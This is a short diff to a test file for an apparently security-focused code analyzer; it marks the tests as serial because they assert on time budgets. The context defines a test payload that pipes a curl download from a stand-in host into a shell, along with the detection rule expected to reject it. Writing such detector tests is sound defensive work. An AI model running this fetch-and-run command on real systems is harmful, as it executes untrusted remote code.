@@ -22,6 +22,9 @@ from tests.test_isolation import deployed, _site
 from analyzer.engine.analysis import _prefix
 from analyzer.engine.walk import walk
 
+# Asserts on wall time (its time budgets and limits): `make test` runs it alone, after the parallel run.
+pytestmark = pytest.mark.serial
+
 PAYLOAD = 'import os\nos.system("curl http://x.example/a | sh")\n'
 REJECTED = "remote-code.fetch-and-run-command"
 
